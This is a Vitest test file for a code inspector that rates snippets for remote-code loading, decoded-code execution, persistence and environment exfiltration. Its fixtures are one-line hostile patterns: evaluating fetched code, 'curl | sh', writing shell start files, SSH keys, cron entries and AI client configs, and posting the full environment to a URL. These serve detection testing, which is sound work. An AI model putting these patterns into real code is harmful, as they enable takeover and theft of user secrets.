import { describe, expect, it } from 'vitest';
import { toldOf } from './inspect-files.ts';

describe('what honest code seldom does', () => {
  it.each<[string, string, string, readonly string[]]>([
    [
      'evaluates an answer',
      'a.js',
      "eval(await (await fetch('https://example.invalid')).text());",
      ['remote-code high'],
    ],
    [
      'evaluates in a chain',
      'a.js',
      "fetch('https://example.invalid').then((r) => r.text()).then((code) => new Function(code)());",
      ['remote-code high'],
    ],
    [
      'evaluates what was collected',
      'a.js',
      "require('https').get(u, (r) => { let d = ''; r.on('data', (x) => { d += x; }); r.on('end', () => { eval(d); }); });",
      ['remote-code high'],
    ],
    [
      'evaluates by own functions',
      'a.js',
      "import axios from 'axios'; import vm from 'vm'; async function load() { const { data } = await axios.get(u); return data; } function run(code) { vm.runInThisContext(code); } run(await load());",
      ['remote-code high'],
    ],
    [
      'imports an answer',
      'a.js',
      "const text = await (await fetch(u)).text(); await import('data:text/javascript,' + text);",
      ['remote-code high'],
    ],
    [
      'evaluates an answer in Python',
      'a.py',
      'import requests\nexec(requests.get("https://example.invalid").text)',
      ['remote-code high'],
    ],
    [
      'pipes a download into a shell',
      'a.js',
      "require('child_process').exec('curl -s https://example.invalid/x | sh');",
      ['remote-code medium'],
    ],
    [
      'parses an answer',
      'a.js',
      "const data = await (await fetch(u)).json(); new Function('a', 'return a')(data);",
      [],
    ],
    ['evaluates beside a request', 'a.js', "await fetch(u); eval('1 + 1');", []],
    ['evaluates base64', 'a.js', "eval(atob('MQ=='));", ['decoded-code high']],
    [
      'evaluates a decoded constant',
      'a.js',
      "const packed = 'MQ=='; const code = Buffer.from(packed, 'base64').toString('utf8'); new Function(code)();",
      ['decoded-code high'],
    ],
    [
      'starts what was decoded',
      'a.js',
      "const { exec } = require('child_process'); exec(Buffer.from('bHM=', 'base64').toString());",
      ['decoded-code high'],
    ],
    [
      'starts what was decoded, Python',
      'a.py',
      'import base64, os\nos.system(base64.b64decode("bHM=").decode())',
      ['decoded-code high'],
    ],
    ['executes compressed text', 'a.py', 'import zlib\nexec(zlib.decompress(blob))', ['decoded-code high']],
    [
      'encodes for a program',
      'a.js',
      "const { execFile } = require('child_process'); execFile('powershell', ['-EncodedCommand', Buffer.from(script, 'utf16le').toString('base64')]);",
      [],
    ],
    [
      'gives decoded data to a program',
      'a.js',
      "const { execFile } = require('child_process'); fs.writeFileSync(p, Buffer.from(data, 'base64')); execFile('convert', [p]);",
      [],
    ],
    [
      'writes the start file of a shell',
      'a.js',
      "import fs from 'fs'; const file = `${process.env.HOME}/.zshrc`; fs.appendFileSync(file, 'echo marker');",
      ['persistence high'],
    ],
    [
      'writes one of several',
      'a.js',
      "import fs from 'fs'; for (const name of ['.profile', '.bashrc']) fs.writeFileSync(join(home, name), 'echo marker');",
      ['persistence high'],
    ],
    [
      'writes keys',
      'a.py',
      'from pathlib import Path\n(Path.home() / ".ssh" / "authorized_keys").write_text("marker")',
      ['persistence high'],
    ],
    [
      'writes a launch agent',
      'a.py',
      'import os\np = os.path.join(os.path.expanduser("~"), "Library/LaunchAgents", "a.plist")\nwith open(p, "w") as f:\n    f.write("marker")',
      ['persistence high'],
    ],
    [
      'writes a unit',
      'a.js',
      "require('fs').writeFileSync('/etc/systemd/system/a.service', 'marker');",
      ['persistence high'],
    ],
    [
      'changes cron',
      'a.js',
      "require('child_process').execSync('(crontab -l; echo marker) | crontab -');",
      ['persistence high'],
    ],
    ['only lists cron', 'a.js', "require('child_process').execSync('crontab -l');", []],
    [
      'writes the settings of a client',
      'a.js',
      "import fs from 'fs'; import path from 'path'; fs.writeFileSync(path.join(home, 'Claude', 'claude_desktop_config.json'), text);",
      ['persistence high'],
    ],
    [
      'reads the settings of a client',
      'a.js',
      "import fs from 'fs'; fs.readFileSync(path.join(home, '.cursor', 'mcp.json'));",
      [],
    ],
    [
      'names a start file in a text',
      'a.js',
      "import fs from 'fs'; fs.writeFileSync('help.txt', 'add this to ~/.bashrc');",
      [],
    ],
    [
      'sends the environment',
      'a.js',
      "const body = JSON.stringify({ ...process.env }); fetch(u, { method: 'POST', body });",
      ['environment-and-network high'],
    ],
    [
      'sends the environment, Python',
      'a.py',
      'import os, json, requests\nrequests.post(u, data=json.dumps(os.environ))',
      ['environment-and-network high'],
    ],
    [
      'lists the environment beside a request',
      'a.js',
      "for (const [k, v] of Object.entries(process.env)) use(k, v); fetch('https://example.com');",
      ['environment-and-network medium'],
    ],
    [
      'loops over the environment beside a request',
      'a.js',
      "for (const k in process.env) use(k); fetch('https://example.com');",
      ['environment-and-network medium'],
    ],
    [
      'copies the environment beside a request',
      'a.py',
      'import os, requests\nall = os.environ.copy()\nrequests.get("https://example.com")',
      ['environment-and-network medium'],
    ],
    [
      'copies the environment for a program',
      'a.py',
      'import os, requests, subprocess\nsubprocess.run(["git"], env=os.environ.copy())\nrequests.get("https://example.com")',
      [],
    ],
    [
      'hands the environment to a program',
      'a.js',
      "const { spawn } = require('child_process'); spawn('git', [], { env: { ...process.env, A: '1' } }); fetch('https://example.com');",
      [],
    ],
    ['sends one variable', 'a.js', 'fetch(u, { headers: { authorization: `Bearer ${process.env.TOKEN}` } });', []],
    ['sends some variables as text', 'a.js', 'fetch(u, { body: JSON.stringify({ key: process.env.KEY }) });', []],
  ])('%s', (_, path, code, expected) => {
    expect(toldOf({ [path]: code })).toEqual(expected);
  });

  it('counts the settings of a client less when an installer is described', () => {
    const code = "import fs from 'fs'; fs.writeFileSync(path.join(home, '.cursor', 'mcp.json'), text);";
    expect(
      toldOf({ 'README.md': 'Run `npx -y example-server setup` and the files are written.', 'a.js': code }),
    ).toEqual(['persistence medium']);
  });
});
